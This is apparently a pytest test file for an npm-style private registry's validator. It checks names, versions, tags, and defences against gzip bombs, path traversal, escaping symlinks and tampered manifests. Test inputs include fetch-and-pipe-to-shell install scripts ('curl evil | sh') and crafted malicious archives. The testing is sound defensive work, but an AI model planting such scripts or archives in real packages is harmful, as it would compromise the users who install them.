"""Unit tests for gati_private_registry.services.validation (no database, no network).

The manifest-normalisation cases come from real npm: every file in
``fixtures/publish_bodies`` is the verbatim PUT body that ``npm publish`` (npm 11.19.1,
node 20) sent to a tiny logging HTTP server on 127.0.0.1, for sample packages made to
exercise one npm normalisation each (bin string/array/object, directories.bin,
optional/bundled dependencies, hosted git specs, binding.gyp, server.js, a ``v`` version,
a package inside a git repository). The tarball is the base64 attachment in each body.
"""
from __future__ import annotations

import base64
import copy
import gzip
import io
import json
import tarfile
import time
import tracemalloc
import zlib
from pathlib import Path
from typing import Any

import pytest

from gati_private_registry.errors import FieldError, TooLarge, ValidationFailed
from gati_private_registry.services.validation import (
    TarballFile,
    TarballInfo,
    check_gati_module,
    check_manifest_agreement,
    highest_version,
    inspect_tarball,
    is_valid_tag,
    normalize_manifest,
    parse_version,
    validate_package_name,
    version_sort_key,
)

FIXTURES = Path(__file__).parent / "fixtures" / "publish_bodies"
MB = 1024 * 1024
LIMITS: dict[str, int] = {"max_compressed": 10 * MB, "max_unpacked": 10 * MB, "max_files": 100}
PJ = {"name": "demo", "version": "1.0.0"}

# --------------------------------------------------------------------------- helpers

Member = tuple[tarfile.TarInfo, bytes | None]


def entry(name: str, data: bytes | str = b"", *, type: bytes = tarfile.REGTYPE,
          linkname: str = "", mode: int = 0o644) -> Member:
    """One tar member: a regular file by default, or a dir/link/device with ``type``."""
    raw = data.encode() if isinstance(data, str) else data
    ti = tarfile.TarInfo(name)
    ti.type = type
    ti.mode = mode
    ti.linkname = linkname
    ti.size = len(raw) if type in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
    return ti, (raw if ti.size else None)


def tar_bytes(members: list[Member]) -> bytes:
    """An uncompressed tar (pax format) of ``members``, built in memory."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for ti, data in members:
            tar.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tar_entries(members: list[Member]) -> bytes:
    """The members as raw tar blocks, without the end-of-archive marker, so tests can
    append whatever they like after them."""
    out = []
    for ti, data in members:
        out.append(ti.tobuf(tarfile.PAX_FORMAT))
        if data:
            out.append(data + bytes(-len(data) % 512))
    return b"".join(out)


def tgz(members: list[Member]) -> bytes:
    return gzip.compress(tar_bytes(members), mtime=0)


def pkg(*extra: Member, package_json: dict[str, Any] | str | None = None,
        root: str = "package") -> bytes:
    """A package tarball: ``<root>/package.json`` (``PJ`` unless given) plus ``extra``."""
    pj = PJ if package_json is None else package_json
    text = pj if isinstance(pj, str) else json.dumps(pj)
    return tgz([entry(f"{root}/package.json", text), *extra])


def inspect(data: bytes, **limits: int) -> TarballInfo:
    return inspect_tarball(data, **{**LIMITS, **limits})


def failure(data: bytes, **limits: int) -> list[FieldError]:
    """The details of the ValidationFailed that inspecting ``data`` must raise."""
    with pytest.raises(ValidationFailed) as exc_info:
        inspect(data, **limits)
    assert exc_info.value.details, "ValidationFailed without details"
    return exc_info.value.details


def fields(details: list[FieldError]) -> set[str]:
    return {d.field for d in details}


def gzip_stream(parts: list[bytes], zeros: int = 0) -> bytes:
    """gzip of ``parts`` followed by ``zeros`` NUL bytes, compressed chunk by chunk so the
    test itself never holds the inflated data."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [comp.compress(p) for p in parts]
    block = bytes(MB)
    for _ in range(zeros // MB):
        out.append(comp.compress(block))
    out.append(comp.compress(bytes(zeros % MB)))
    out.append(comp.flush())
    return b"".join(out)


def assert_bounded(data: bytes, **limits: int) -> None:
    """Inspecting ``data`` raises TooLarge within 5 s, peaking under 40 MB of memory."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(TooLarge):
            inspect(data, **limits)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 40 * MB, f"peak memory {peak / MB:.1f} MB"


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize("name", [
    "lodash", "gati-plain", "a.b", "x1", "@types/node", "@gati/http", "@a/b.c-d_e",
    "a" * 214, "@" + "s" * 100 + "/" + "n" * 112,
])
def test_valid_names(name: str) -> None:
    assert validate_package_name(name) == []


@pytest.mark.parametrize(("name", "fragment"), [
    ("", "greater than zero"),
    ("Lodash", "capital letters"),
    ("@Gati/x", "capital letters"),
    ("a" * 215, "more than 214"),
    ("@" + "s" * 100 + "/" + "n" * 113, "more than 214"),
    (" foo", "leading or trailing spaces"),
    ("foo ", "leading or trailing spaces"),
    ("foo bar", "URL-friendly"),
    (".foo", "cannot start with a period"),
    ("_foo", "cannot start with an underscore"),
    ("-foo", "cannot start with a hyphen"),
    ("~foo", "special characters"),
    ("foo!", "special characters"),
    ("foo(bar)", "special characters"),
    ("foo*", "special characters"),
    ("it's", "special characters"),
    ("node_modules", "node_modules is not a valid"),
    ("favicon.ico", "favicon.ico is not a valid"),
    ("http", "core module"),
    ("fs", "core module"),
    ("café", "URL-friendly"),
    ("foo/bar", "URL-friendly"),
    ("@scope", "@scope/name"),
    ("@/x", "scope cannot be empty"),
    ("@scope/", "name cannot be empty"),
    ("@scope/a/b", "@scope/name"),
    ("@.scope/x", "scope cannot start with a period"),
    ("@scope/.x", "name cannot start with a period"),
    ("@_scope/x", "scope cannot start with an underscore"),
    ("@scope/_x", "name cannot start with an underscore"),
    ("@sc ope/x", "URL-friendly"),
    ("@scope/node_modules", "node_modules is not a valid name"),
    ("foo@1", "URL-friendly"),
])
def test_invalid_names(name: str, fragment: str) -> None:
    errors = validate_package_name(name)
    assert errors, f"{name!r} was accepted"
    assert fields(errors) == {"name"}
    assert any(fragment in e.message for e in errors), [e.message for e in errors]


def test_name_reports_every_problem_once() -> None:
    messages = [e.message for e in validate_package_name("_Foo!")]
    assert len(messages) == len(set(messages)) == 3  # underscore, capitals, special chars


# --------------------------------------------------------------------------- versions


@pytest.mark.parametrize(("version", "normalised"), [
    ("1.0.0", "1.0.0"),
    ("0.0.0", "0.0.0"),
    ("1.2.3-rc.1", "1.2.3-rc.1"),
    ("1.0.0-beta.1+build", "1.0.0-beta.1"),
    ("1.0.0+20240101", "1.0.0"),
    ("10.20.30-alpha-1.0.x-y", "10.20.30-alpha-1.0.x-y"),
])
def test_parse_version_accepts_strict_semver(version: str, normalised: str) -> None:
    assert parse_version(version) == normalised


@pytest.mark.parametrize("version", [
    "1.0", "v1.0.0", "01.0.0", "1.01.0", "1.0.0-01", "=1.0.0", " 1.0.0", "1.0.0 ",
    "1.0.0\n", "1.0.0-", "1.0.0+", "", "1", "1.0.0.0", "x.y.z", "latest", "1.0.0-be ta",
    "9007199254740992.0.0", "1." * 200 + "0",
])
def test_parse_version_rejects(version: str) -> None:
    with pytest.raises(ValidationFailed) as exc_info:
        parse_version(version)
    assert fields(exc_info.value.details) == {"version"}


def test_version_sort_key_follows_semver_precedence() -> None:
    ordered = ["1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta",
               "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.9.0", "1.10.0",
               "2.0.0-0", "2.0.0", "10.0.0"]
    shuffled = ordered[::2] + ordered[1::2]
    assert sorted(shuffled, key=version_sort_key) == ordered
    assert sorted(["1.0.0", "garbage"], key=version_sort_key) == ["garbage", "1.0.0"]
    assert version_sort_key("1.0.0+a")[:6] == version_sort_key("1.0.0+b")[:6]


def test_highest_version() -> None:
    assert highest_version(["1.0.0", "2.0.0-beta.1", "1.5.0", "1.10.0"]) == "1.10.0"
    assert highest_version(["1.0.0", "2.0.0-beta.1"], include_prerelease=True) == "2.0.0-beta.1"
    # no release at all: fall back to the highest prerelease (npm's latest reset)
    assert highest_version(["1.0.0-alpha", "1.0.0-beta", "0.9.0-rc.1"]) == "1.0.0-beta"
    assert highest_version([]) is None
    assert highest_version(["garbage"]) is None
    assert highest_version(iter(["0.1.0", "0.0.9"])) == "0.1.0"


# --------------------------------------------------------------------------- tags


@pytest.mark.parametrize("tag", ["latest", "next", "beta", "beta-1", "rc.1", "canary",
                                 "legacy-1.x", "v2-beta", "next-2", "a1", "1a", "0x"])
def test_valid_tags(tag: str) -> None:
    assert is_valid_tag(tag)


@pytest.mark.parametrize("tag", ["1.x", "^1", "~1.2", "1", "1.2", "1.2.3", "v1", "x", "*",
                                 ">=1", "1.x.x", "=1", "2.0.0-beta", "", "a b", "tag/x",
                                 "é", "a%20b", "a|b"])
def test_invalid_tags(tag: str) -> None:
    assert not is_valid_tag(tag)


# --------------------------------------------------------------------------- tarballs: accept


def test_normal_package() -> None:
    data = pkg(entry("package/index.js", "module.exports = 1\n", mode=0o755),
               entry("package/lib", type=tarfile.DIRTYPE, mode=0o755),
               entry("package/lib/a.js", "a"),
               entry("package/README.md", "# demo\n"),
               entry("package/gati-module.json", '{"name": "demo", "kind": "ui"}'))
    info = inspect(data)
    assert info.root == "package"
    assert info.package_json == PJ
    assert info.gati_module == {"name": "demo", "kind": "ui"}
    assert info.readme == "# demo\n"
    assert info.files == (
        TarballFile("package.json", len(json.dumps(PJ)), 0o644),
        TarballFile("index.js", 19, 0o755),
        TarballFile("lib/a.js", 1, 0o644),
        TarballFile("README.md", 7, 0o644),
        TarballFile("gati-module.json", 30, 0o644),
    )
    assert info.file_count == 5
    assert info.unpacked_size == sum(f.size for f in info.files)


def test_types_style_root_folder() -> None:
    info = inspect(pkg(entry("node/index.d.ts", "export {}"), root="node",
                       package_json={"name": "@types/node", "version": "20.1.0"}))
    assert info.root == "node"
    assert [f.path for f in info.files] == ["package.json", "index.d.ts"]
    assert info.gati_module is None and info.readme is None


def test_links_inside_the_root_are_allowed() -> None:
    info = inspect(pkg(
        entry("package/lib/index.js", "x"),
        entry("package/main.js", type=tarfile.SYMTYPE, linkname="lib/index.js"),
        entry("package/lib/up.js", type=tarfile.SYMTYPE, linkname="../main.js"),
        entry("package/self", type=tarfile.SYMTYPE, linkname="."),
        entry("package/copy.js", type=tarfile.LNKTYPE, linkname="package/lib/index.js"),
    ))
    assert [f.path for f in info.files] == ["package.json", "lib/index.js", "copy.js"]
    assert info.files[-1].size == 1  # a hard link has its target's size


def test_readme_choice_and_cap() -> None:
    info = inspect(pkg(entry("package/README", "plain"), entry("package/README.md", "md"),
                       entry("package/docs/README.md", "nested")))
    assert info.readme == "md"  # npm prefers a markdown README over a bare one
    assert inspect(pkg(entry("package/README", "plain"))).readme == "plain"
    assert inspect(pkg(entry("package/readme.markdown", "mk"))).readme == "mk"
    assert inspect(pkg(entry("package/README.txt", "txt"))).readme is None
    big = ("é" * MB).encode()  # 2 MiB of two-byte characters
    readme = inspect(pkg(entry("package/README.md", big))).readme
    assert readme is not None and readme == "é" * (MB // 2)
    assert inspect(pkg(entry("package/README.md", b"\xff ok"))).readme == "\ufffd ok"


def test_package_json_with_bom_and_concatenated_gzip_members() -> None:
    info = inspect(pkg(package_json="\ufeff" + json.dumps(PJ)))
    assert info.package_json == PJ
    raw = tar_bytes([entry("package/package.json", json.dumps(PJ))])
    two_members = gzip.compress(raw[:512], mtime=0) + gzip.compress(raw[512:], mtime=0)
    assert inspect(two_members).package_json == PJ


def test_real_npm_tarballs_are_accepted() -> None:
    for path in sorted(FIXTURES.glob("*.json")):
        info = inspect(_tarball_of(_body(path)))
        assert info.root == "package"
        assert info.package_json["name"] == _manifest_of(_body(path))["name"]


# --------------------------------------------------------------------------- tarballs: size


def test_compressed_too_large() -> None:
    with pytest.raises(TooLarge):
        inspect(pkg(), max_compressed=10)


def test_declared_sizes_too_large() -> None:
    with pytest.raises(TooLarge):
        inspect(pkg(entry("package/big.bin", bytes(2 * MB))), max_unpacked=MB)


def test_too_many_files() -> None:
    data = pkg(*(entry(f"package/f{i}.js", "x") for i in range(5)))
    assert inspect(data, max_files=6).file_count == 6
    with pytest.raises(TooLarge):
        inspect(data, max_files=5)


def test_gzip_bomb_declared_in_a_tar_header() -> None:
    header = tarfile.TarInfo("package/zeros.bin")
    header.size = 200 * MB
    data = gzip_stream([tar_entries([entry("package/package.json", json.dumps(PJ))]),
                        header.tobuf(tarfile.PAX_FORMAT)], zeros=200 * MB)
    assert len(data) < 1 * MB
    assert_bounded(data, max_unpacked=10 * MB)


def test_gzip_bomb_of_plain_zeros() -> None:
    # Not even a tar: tarfile reads the first zero block as the end of the archive, so
    # only the bounded drain of what follows can notice the bomb.
    assert_bounded(gzip_stream([], zeros=200 * MB), max_unpacked=10 * MB)


def test_gzip_bomb_hidden_after_the_end_of_the_archive() -> None:
    valid = tar_bytes([entry("package/package.json", json.dumps(PJ))])
    assert_bounded(gzip_stream([valid], zeros=200 * MB), max_unpacked=10 * MB)


def test_bomb_in_a_pax_header() -> None:
    # tarfile reads a pax header into memory whole; the budget still bounds it
    ti = tarfile.TarInfo("package/x")
    ti.pax_headers = {"comment": "a" * (30 * MB)}
    assert_bounded(gzip_stream([tar_entries([(ti, None)])]), max_unpacked=10 * MB)


# --------------------------------------------------------------------------- tarballs: format


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 not gzip", tar_bytes([entry("a/b", "x")])])
def test_not_gzip(data: bytes) -> None:
    details = failure(data)
    assert fields(details) == {"tarball"}
    assert "gzip" in details[0].message


@pytest.mark.parametrize("data", [
    gzip.compress(b"hello world, this is not a tar archive" * 50),
    gzip.compress(b"x" * 100),
])
def test_gzip_but_not_tar(data: bytes) -> None:
    assert fields(failure(data)) == {"tarball"}


@pytest.mark.parametrize("data", [gzip.compress(b""), gzip.compress(bytes(1024)),
                                  tgz([])])
def test_empty_archive(data: bytes) -> None:
    details = failure(data)
    assert fields(details) == {"tarball"}
    assert "empty" in details[0].message


def test_corrupt_and_truncated_gzip() -> None:
    good = pkg(entry("package/index.js", "x" * 5000))
    assert fields(failure(good[: len(good) // 2])) == {"tarball"}
    corrupt = bytearray(good)
    corrupt[20] ^= 0xFF
    assert fields(failure(bytes(corrupt))) == {"tarball"}


def test_garbage_after_the_gzip_stream() -> None:
    details = failure(pkg() + b"trailing garbage")
    assert fields(details) == {"tarball"}
    assert inspect(pkg() + bytes(100)).package_json == PJ  # NUL padding is fine


def test_garbage_after_the_end_of_the_tar() -> None:
    raw = tar_bytes([entry("package/package.json", json.dumps(PJ))])
    assert fields(failure(gzip.compress(raw + b"hidden" + bytes(506)))) == {"tarball"}


def test_entry_hidden_after_a_single_zero_block() -> None:
    # node-tar keeps reading after one zero block; tarfile stops. Refuse the difference.
    first = tar_entries([entry("package/package.json", json.dumps(PJ))])
    hidden = tar_bytes([entry("package/package.json", '{"name": "evil"}')])
    details = failure(gzip.compress(first + bytes(512) + hidden))
    assert fields(details) == {"tarball"}
    assert "after the end of the tar archive" in details[0].message
    # the same archive with both zero blocks in place is fine
    assert inspect(gzip.compress(first + bytes(1024))).package_json == PJ


def test_invalid_header_after_the_first_entry() -> None:
    first = tar_entries([entry("package/package.json", json.dumps(PJ))])
    details = failure(gzip.compress(first + b"\x01" * 512 + bytes(1024)))
    assert fields(details) == {"tarball"}
    assert "not a tar header" in details[0].message


# --------------------------------------------------------------------------- tarballs: names


@pytest.mark.parametrize(("name", "fragment"), [
    ("package/../../etc/passwd", "'..'"),
    ("../package/x", "'..'"),
    ("/abs", "absolute"),
    ("/package/x.js", "absolute"),
    ("C:/package/x.js", "absolute"),
    ("package\\evil.js", "backslash"),
    ("package/a\nb", "control characters"),
    ("package//x.js", "empty or '.'"),
    ("package/./x.js", "empty or '.'"),
    ("./package/x.js", "empty or '.'"),
])
def test_bad_entry_names(name: str, fragment: str) -> None:
    details = failure(pkg(entry(name, "x")))
    assert f"tarball:{name}".replace("\n", "\\x0a") in fields(details)
    assert any(fragment in d.message for d in details), details


def test_nul_in_an_entry_name() -> None:
    ti, _ = entry("package/a")
    ti.pax_headers = {"path": "package/a\x00b"}
    details = failure(pkg((ti, None)))
    assert fields(details) == {"tarball:package/a\\x00b"}
    assert "NUL" in details[0].message


def test_two_top_level_folders() -> None:
    details = failure(pkg(entry("other/index.js", "x")))
    assert fields(details) == {"tarball"}
    assert "one top-level folder" in details[0].message


def test_file_at_the_top_level() -> None:
    details = failure(tgz([entry("package.json", json.dumps(PJ))]))
    assert "tarball:package.json" in fields(details)


# --------------------------------------------------------------------------- tarballs: links


@pytest.mark.parametrize("target", ["../../etc/passwd", "/etc/passwd", "..", "lib/../../x",
                                    "C:/windows"])
def test_symlink_escaping_the_root(target: str) -> None:
    details = failure(pkg(entry("package/evil", type=tarfile.SYMTYPE, linkname=target)))
    assert fields(details) == {"tarball:package/evil"}


def test_symlink_escaping_through_another_symlink() -> None:
    # Lexically "a/b/s/../.." is package/a, but s points at package/a, so the real path
    # is package/a/../.. : outside the root.
    details = failure(pkg(
        entry("package/a/b/s", type=tarfile.SYMTYPE, linkname="../.."),
        entry("package/t", type=tarfile.SYMTYPE, linkname="a/b/s/../.."),
    ))
    assert "tarball:package/t" in fields(details)


def test_symlink_loop_and_empty_target() -> None:
    details = failure(pkg(entry("package/x", type=tarfile.SYMTYPE, linkname="y/z"),
                          entry("package/y", type=tarfile.SYMTYPE, linkname="x")))
    assert any("loop" in d.message for d in details)
    assert fields(failure(pkg(entry("package/e", type=tarfile.SYMTYPE, linkname="")))) \
        == {"tarball:package/e"}


def test_links_through_links_cannot_blow_up() -> None:
    # each link goes through the previous one twice: naive resolution costs 2**35 steps
    links = [entry("package/l0", type=tarfile.SYMTYPE, linkname=".")]
    links += [entry(f"package/l{i}", type=tarfile.SYMTYPE, linkname=f"l{i - 1}/l{i - 1}")
              for i in range(1, 36)]
    started = time.monotonic()
    details = failure(pkg(*links))
    assert time.monotonic() - started < 5
    assert any("nested too deeply" in d.message for d in details)


def test_negative_member_size() -> None:
    ti = tarfile.TarInfo("package/neg")
    block = bytearray(ti.tobuf(tarfile.GNU_FORMAT))
    block[124:136] = b"\xff" + b"\xff" * 11  # base-256 -1
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)  # recompute the header checksum
    data = tar_entries([entry("package/package.json", json.dumps(PJ))]) + bytes(block)
    details = failure(gzip.compress(data + bytes(1024)))
    assert fields(details) == {"tarball"}
    assert "negative size" in details[0].message


@pytest.mark.parametrize("target", ["etc/passwd", "package/../../etc/passwd", "/etc/passwd",
                                    "package/missing.js", "package/later.js"])
def test_bad_hard_links(target: str) -> None:
    details = failure(pkg(entry("package/h", type=tarfile.LNKTYPE, linkname=target),
                          entry("package/later.js", "x")))
    assert fields(details) == {"tarball:package/h"}


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_devices_and_fifos(kind: bytes) -> None:
    details = failure(pkg(entry("package/dev", type=kind)))
    assert fields(details) == {"tarball:package/dev"}


def test_sparse_and_unknown_entry_types() -> None:
    assert fields(failure(pkg(entry("package/s", type=tarfile.GNUTYPE_SPARSE)))) \
        == {"tarball:package/s"}
    assert fields(failure(pkg(entry("package/z", type=b"Z")))) == {"tarball:package/z"}


# --------------------------------------------------------------------------- tarballs: overlaps


def test_duplicate_entries() -> None:
    details = failure(pkg(entry("package/index.js", "a"), entry("package/index.js", "b")))
    assert fields(details) == {"tarball:package/index.js"}
    # a second package.json that an unpacker would write over the first
    details = failure(pkg(entry("package/package.json", '{"name": "evil"}')))
    assert fields(details) == {"tarball:package/package.json"}


def test_names_colliding_on_case_insensitive_file_systems() -> None:
    details = failure(pkg(entry("package/PACKAGE.JSON", '{"name": "evil"}')))
    assert fields(details) == {"tarball:package/PACKAGE.JSON"}
    details = failure(pkg(entry("package/caf\u00e9.js", "nfc"), entry("package/cafe\u0301.js", "nfd")))
    assert fields(details) == {"tarball:package/cafe\u0301.js"}
    # directories listed twice are harmless
    inspect(pkg(entry("package/lib", type=tarfile.DIRTYPE), entry("package/lib", type=tarfile.DIRTYPE)))


def test_entries_inside_a_symlink_or_a_file() -> None:
    details = failure(pkg(entry("package/lib", type=tarfile.SYMTYPE, linkname="src"),
                          entry("package/lib/x.js", "x")))
    assert fields(details) == {"tarball:package/lib/x.js"}
    details = failure(pkg(entry("package/a", "file"), entry("package/a/b.js", "x")))
    assert fields(details) == {"tarball:package/a/b.js"}


def test_many_problems_are_capped() -> None:
    data = pkg(*(entry(f"/abs{i}", "x") for i in range(150)))
    with pytest.raises(ValidationFailed) as exc_info:
        inspect(data, max_files=1000)
    assert len(exc_info.value.details) == 101
    assert "more problems" in exc_info.value.details[-1].message


# --------------------------------------------------------------------------- tarballs: JSON files


def test_missing_package_json() -> None:
    details = failure(tgz([entry("package/index.js", "x")]))
    assert fields(details) == {"tarball"}
    assert "package/package.json" in details[0].message
    # package.json at the root of a different folder depth does not count
    assert fields(failure(tgz([entry("package/lib/package.json", json.dumps(PJ))]))) \
        == {"tarball"}


def test_package_json_not_a_regular_file() -> None:
    data = tgz([entry("package/real.json", json.dumps(PJ)),
                entry("package/package.json", type=tarfile.SYMTYPE, linkname="real.json")])
    assert fields(failure(data)) == {"tarball:package/package.json"}
    data = tgz([entry("package/package.json", type=tarfile.DIRTYPE)])
    assert fields(failure(data)) == {"tarball:package/package.json"}


@pytest.mark.parametrize("text", ['{"name": "x",}', "[1, 2]", '"string"', '{"a": NaN}',
                                  "", "[" * 100_000])
def test_package_json_not_a_json_object(text: str) -> None:
    assert fields(failure(pkg(package_json=text))) == {"tarball:package/package.json"}


def test_package_json_not_utf8() -> None:
    data = tgz([entry("package/package.json", b'{"name": "\xff"}')])
    assert fields(failure(data)) == {"tarball:package/package.json"}


@pytest.mark.parametrize("text", ["{nope", "[]", "null"])
def test_invalid_gati_module_json(text: str) -> None:
    details = failure(pkg(entry("package/gati-module.json", text)))
    assert fields(details) == {"gati-module.json"}


def test_gati_module_json_only_counts_at_the_root() -> None:
    assert inspect(pkg(entry("package/lib/gati-module.json", "{nope"))).gati_module is None


def test_all_problems_are_reported_together() -> None:
    details = failure(tgz([entry("package/x/../../y", "x"), entry("package/gati-module.json", "[")]))
    assert fields(details) == {"tarball:package/x/../../y", "tarball", "gati-module.json"}


# --------------------------------------------------------------------------- gati-module.json


def test_check_gati_module() -> None:
    assert check_gati_module({}, name="demo", version="1.0.0") == []
    assert check_gati_module({"name": "demo", "version": "1.0.0"}, name="demo",
                             version="1.0.0") == []
    assert check_gati_module({"version": "v1.0.0"}, name="demo", version="1.0.0") == []
    errors = check_gati_module({"name": "other", "version": "2.0.0"}, name="demo",
                               version="1.0.0")
    assert [e.field for e in errors] == ["gati-module.json", "gati-module.json"]
    assert "other" in errors[0].message and "2.0.0" in errors[1].message
    assert check_gati_module({"version": 1}, name="demo", version="1.0.0")


# --------------------------------------------------------------------------- real npm bodies


def _body(path: Path) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(path.read_text())
    return body


def _manifest_of(body: dict[str, Any]) -> dict[str, Any]:
    (_, manifest), = body["versions"].items()
    assert isinstance(manifest, dict)
    return manifest


def _tarball_of(body: dict[str, Any]) -> bytes:
    (_, attachment), = body["_attachments"].items()
    return base64.b64decode(attachment["data"])


def _packed(name: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """(the manifest npm sent, the tarball's package.json) of a fixture."""
    body = _body(FIXTURES / f"{name}.json")
    return _manifest_of(body), inspect(_tarball_of(body)).package_json


FIXTURE_NAMES = sorted(p.stem for p in FIXTURES.glob("*.json"))
COMPARED = ("name", "version", "dependencies", "optionalDependencies", "peerDependencies",
            "scripts", "bin")


def test_there_are_fixtures() -> None:
    assert len(FIXTURE_NAMES) >= 15


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_real_npm_publish_agrees_with_its_tarball(name: str) -> None:
    sent, packed = _packed(name)
    assert check_manifest_agreement(sent, packed) == []


# Where npm needed the package's files, the body has more than package.json can tell.
FILE_DEPENDENT = {"binding-gyp-and-server-js": {"scripts"}, "server-js-with-preinstall": {"scripts"},
                  "directories-bin": {"bin"}}


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_normalize_manifest_reproduces_what_npm_sent(name: str) -> None:
    sent, packed = _packed(name)
    normalised = normalize_manifest(packed)
    for field in set(COMPARED) - FILE_DEPENDENT.get(name, set()):
        expected = sent.get(field, {} if field == "scripts" else None)
        assert normalised.get(field) == expected, field
    assert normalize_manifest(sent) == normalize_manifest(normalize_manifest(sent))


def test_what_real_npm_sends() -> None:
    """The facts the normalisation rests on, as observed in the captured bodies."""
    sent, packed = _packed("optional-dependencies")
    assert sent["dependencies"] == {"a": "^1.0.0", "b": "^2.0.0"}  # c (optional) not merged
    assert sent["optionalDependencies"] == {"b": "^2.1.0", "c": "^3.0.0"}
    sent, packed = _packed("scoped-bin-string")
    assert packed["bin"] == "./cli.js" and sent["bin"] == {"bin-string": "cli.js"}
    sent, _ = _packed("bin-object-messy-paths")
    assert sent["bin"] == {"foo": "bin/foo.js", "bar": "bin/bar.js", "baz": "bin/baz.js",
                           "win": "bin/win.js", "up": "etc/x"}
    sent, packed = _packed("directories-bin")
    assert "bin" not in packed and sent["directories"] == {"bin": "./scripts"}
    assert sent["bin"] == {"one.js": "scripts/one.js", "two": "scripts/two",
                           "sub": "scripts/sub", "three.js": "scripts/sub/three.js"}
    sent, packed = _packed("binding-gyp-and-server-js")
    assert packed["scripts"] == {"test": "echo ok"} and sent["gypfile"] is True
    assert sent["scripts"] == {"test": "echo ok", "install": "node-gyp rebuild",
                               "start": "node server.js"}
    sent, packed = _packed("plain")
    assert packed["scripts"]["test"] == "node_modules/.bin/tap" and sent["scripts"]["test"] == "tap"
    assert sent["readme"].startswith("# gati-plain") and sent["readmeFilename"] == "README.md"
    assert sent["description"] == "A plain package."  # taken from the README
    assert sent["_id"] == "gati-plain@1.0.0" and "_private" not in sent
    assert "_private" in packed  # the tarball keeps package.json as written
    assert "gitHead" not in sent and len(_packed("git-head")[0]["gitHead"]) == 40
    sent, packed = _packed("v-prefixed-version-with-build")
    assert packed["version"] == "v2.0.0-beta.1+build.5" and sent["version"] == "2.0.0-beta.1"
    sent, _ = _packed("bundled-dependencies-spelling")
    assert sent["bundleDependencies"] == ["dep-two"] and sent["dependencies"]["dep-two"] == "*"
    sent, _ = _packed("hosted-git-dependencies")
    assert sent["dependencies"]["a"] == "github:npm/cli"
    assert sent["dependencies"]["i"] == "git+https://github.com/npm/cli.git"
    assert sent["optionalDependencies"]["p"] == "npm/cli"  # only dependencies are rewritten


# --------------------------------------------------------------------------- tampering


def _retar(fixture: str, **changes: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """The sent manifest of a fixture and its tarball's package.json with ``changes``
    applied (None deletes a key), after a round trip through a rebuilt tarball."""
    body = _body(FIXTURES / f"{fixture}.json")
    members: list[Member] = []
    with tarfile.open(fileobj=io.BytesIO(_tarball_of(body)), mode="r:gz") as tar:
        for ti in tar.getmembers():
            f = tar.extractfile(ti)
            data = f.read() if f else None
            if ti.name == "package/package.json" and data is not None:
                pj = json.loads(data)
                for key, value in changes.items():
                    if value is None:
                        pj.pop(key, None)
                    else:
                        pj[key] = value
                data = json.dumps(pj).encode()
                ti.size = len(data)
            members.append((ti, data))
    return _manifest_of(body), inspect(tgz(members)).package_json


def test_tampered_dependencies() -> None:
    sent, packed = _retar("plain", dependencies={"lodash": "^3"})
    errors = check_manifest_agreement(sent, packed)
    assert [e.field for e in errors] == ["dependencies"]
    assert "sent lodash@^4.17.21, tarball lodash@^3" in errors[0].message
    sent, packed = _retar("plain", dependencies={"lodash": "^4.17.21", "evil": "1.0.0"})
    errors = check_manifest_agreement(sent, packed)
    assert [e.field for e in errors] == ["dependencies"]
    assert "only in the tarball evil@1.0.0" in errors[0].message


def test_tampered_version_and_name() -> None:
    sent, packed = _retar("plain", version="1.0.1", name="other")
    errors = check_manifest_agreement(sent, packed)
    assert [e.field for e in errors] == ["name", "version"]
    assert "'1.0.0'" in errors[1].message and "'1.0.1'" in errors[1].message


def test_tampered_scripts() -> None:
    sent, packed = _retar("scoped-bin-string", scripts={"postinstall": "curl evil | sh"})
    errors = check_manifest_agreement(sent, packed)
    assert [e.field for e in errors] == ["scripts"]
    assert "postinstall" in errors[0].message
    # the node-gyp tolerance does not cover a package.json that has its own preinstall
    sent, packed = _retar("binding-gyp-and-server-js", scripts={"test": "echo ok",
                                                               "preinstall": "x"})
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["scripts"]
    # nor gypfile: false, nor a different install command
    sent, packed = _retar("binding-gyp-and-server-js", gypfile=False)
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["scripts"]
    sent, packed = _retar("binding-gyp-and-server-js")
    sent = copy.deepcopy(sent)
    sent["scripts"]["install"] = "node-gyp rebuild && curl evil"
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["scripts"]


def test_tampered_bin() -> None:
    sent, packed = _retar("scoped-bin-string", bin="./other.js")
    errors = check_manifest_agreement(sent, packed)
    assert [e.field for e in errors] == ["bin"]
    assert "other.js" in errors[0].message
    sent, packed = _retar("scoped-bin-string", bin=None)
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["bin"]
    # a bin said to come from directories.bin must stay inside that folder
    sent, packed = _retar("directories-bin", directories={"bin": "./other"})
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["bin"]


def test_tampered_optional_and_peer_dependencies() -> None:
    sent, packed = _retar("optional-dependencies", optionalDependencies={"b": "^2.1.0"})
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["optionalDependencies"]
    sent, packed = _retar("plain", peerDependencies={"react": ">=16"})
    assert [e.field for e in check_manifest_agreement(sent, packed)] == ["peerDependencies"]


def test_legacy_clients_copying_optional_dependencies() -> None:
    sent, packed = _packed("optional-dependencies")
    legacy = copy.deepcopy(sent)
